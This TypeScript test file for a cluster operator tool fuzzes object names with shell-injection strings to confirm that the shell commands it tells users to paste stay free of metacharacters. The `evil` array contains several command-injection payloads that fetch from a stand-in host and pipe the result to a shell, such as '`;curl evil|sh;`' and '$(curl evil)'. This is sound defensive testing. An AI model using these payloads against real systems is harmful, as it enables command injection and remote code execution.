/** Words of objects that no API server checks, where a command is made of them: what people are told to paste into a shell. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { RawObject } from '../../src/model/raw-object.ts';
import type { Settings } from '../../src/model/settings.ts';
import type { Effects, Input } from '../../src/model/turn.ts';
import { replaySettings } from '../../src/runtime/recording/replay-settings.ts';
import { Core } from '../../src/turn/core.ts';
import { everyKind, sourceOf } from '../world/story.ts';
import { type ToldStory, toldStories } from './told-stories.ts';

const settings: Settings = { ...replaySettings, edition: 'Pro', operatorNamespace: 'tocsin' };

/** Names that somebody chose for a shell. As many as make each come to every place in time: not a multiple of the stride. */
const evil = [
  '`;curl evil|sh;`',
  "';curl evil|sh;'",
  '$(curl evil)',
  '\ncurl evil\n',
  ' --server=evil',
  '&curl evil&',
  '\u2019;curl evil;\u2018',
].map((name) => `x${name}`);

/** Places of a spec where another object, a key or a label is named. */
const naming = /name|ref|kind|target|secret|claim|config|backend|parent|key|class|label/i;
const word = /^[A-Za-z][\w.-]{2,60}$/;

/** Every word of the specs of a story that names something. */
function wordsOf({ steps }: ToldStory): ReadonlySet<string> {
  const found = new Set<string>();
  const look = (value: unknown, path: readonly string[]): void => {
    if (typeof value === 'string' && word.test(value) && naming.test(path.slice(-2).join('.'))) found.add(value);
    if (typeof value === 'object' && value !== null)
      for (const [key, part] of Object.entries(value)) look(part, [...path, key]);
  };
  for (const { events } of steps) for (const { raw } of events) look(raw.spec, ['spec']);
  return found;
}

/** A value with a word replaced wherever it stands, but for what the API server checks. */
function replaced<T>(value: T, from: string, to: string): T {
  if (typeof value === 'string') return value.split(from).join(to) as T & string;
  if (Array.isArray(value)) return value.map((each) => replaced(each, from, to)) as T & unknown[];
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, part]) => [key, replaced(part, from, to)])) as T & object;
}

function withWord(raw: RawObject, from: string, to: string): RawObject {
  const { apiVersion, kind, metadata, ...rest } = raw;
  return {
    ...replaced(rest, from, to),
    metadata,
    ...(apiVersion && { apiVersion }),
    ...(kind && { kind }),
  } as RawObject;
}

/** The commands that are told in a story in which a word is another one. */
function commandsOf({ steps }: ToldStory, from: string, to: string): readonly string[] {
  const core = new Core({ clusterId: 'c', version: '1', traits: new Map() });
  const commands: string[] = [];
  let now = (steps[0]?.at ?? 0) - 1_000;
  let wakeAt: number | undefined;
  const turn = (at: number, ...inputs: readonly Input[]): void => {
    now = Math.max(now, at);
    const effects: Effects = core.turn(inputs, now);
    wakeAt = effects.wakeAt;
    for (const { notification } of effects.save.enqueue)
      if (notification.nextStep) commands.push(notification.nextStep.command);
  };
  const until = (at: number): void => {
    for (let turns = 0; turns < 40 && wakeAt !== undefined && wakeAt <= at; turns += 1) turn(wakeAt, { kind: 'wake' });
  };
  const sources = everyKind.map(({ kind, source }): Input => {
    const coverage = { source, kind, state: 'Watching', reason: 'Synced', since: 0, required: true } as const;
    return { kind: 'source', coverage };
  });
  turn(now, ...sources, { kind: 'settings', settings }, { kind: 'baseline' });
  for (const { at, events } of steps) {
    until(at);
    const inputs = events.map(({ is, raw }): Input => {
      return { kind: 'objects', source: sourceOf(raw), events: [{ is, raw: withWord(raw, from, to) }] };
    });
    turn(at, ...inputs);
  }
  until(now + 20 * 60_000);
  return commands;
}

/** Every third place in `make test`, all with `HOSTILE_RUNS` (`make fuzz`). */
const stride = process.env.HOSTILE_RUNS === undefined ? 3 : 1;

/** The line without what is in its quotes, which no shell looks into, and without the one pipe of ours. */
const bare = (command: string): string =>
  command.replace(/ \| base64 -d \| openssl x509 [a-z -]+$/, '').replace(/'[^']*'/g, 'x');

test('whatever a word of an object is, no command that is told holds what a shell would take apart', () => {
  let [places, told] = [0, 0];
  for (const story of toldStories)
    for (const each of wordsOf(story)) {
      places += 1;
      if (places % stride !== 0) continue;
      // Which name it is goes by the place, so that all come to every kind of place.
      for (const command of commandsOf(story, each, evil[places % evil.length] ?? '')) {
        told += 1;
        const where = `${story.reason}, ${each}: ${command}`;
        assert.match(command, /^[ -_a-~]+$/, where);
        assert.match(bare(command), /^[\w.:/,+= -]+$/, where);
        assert.doesNotMatch(bare(command), /evil/, where);
      }
    }
  assert.ok(places > 500 && told > 300 / stride, `${told} commands in ${places} places`);
});
